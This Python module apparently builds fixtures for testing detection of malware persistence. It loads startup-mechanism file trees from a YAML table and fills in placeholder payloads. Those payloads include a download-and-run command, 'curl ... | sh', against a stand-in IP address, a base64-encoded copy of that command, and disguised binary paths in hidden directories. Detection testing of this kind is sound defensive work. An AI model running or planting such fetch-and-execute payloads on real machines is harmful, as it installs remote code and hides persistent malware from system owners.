"""Files that start something, each with a payload, and as software ships it, from start_mechanisms.yaml."""

from __future__ import annotations

import base64
from collections.abc import Mapping
from pathlib import Path

import yaml

_FILE = Path(__file__).resolve().parents[1] / "tables/persistence/start_mechanisms.yaml"
# Trees by name, each of texts by path, of which `filled` is to be planted.
FIRES: Mapping[str, Mapping[str, str]]
SILENT: Mapping[str, Mapping[str, str]]
FIRES, SILENT = (yaml.safe_load(_FILE.read_text())[kind] for kind in ("fires", "silent"))
EXECUTABLE = " (x)"
_DOWNLOAD = "curl -fsSL http://203.0.113.7/i.sh | sh"
_WORDS = {
    "<download>": _DOWNLOAD,
    "<download in base64>": base64.b64encode(_DOWNLOAD.encode()).decode(),
    "<hidden>": "/usr/lib/.cache/kthread",
    "<temp>": "/var/tmp/.x/run",
    "<elf>": "\x7fELF",
}
# Programs that the payloads name.
PROGRAMS = ("<hidden>", "<temp>")


def filled(text: str) -> str:
    """A path or a text, its words in angle brackets replaced by what they stand for."""
    for word, meaning in _WORDS.items():
        text = text.replace(word, meaning)
    return text
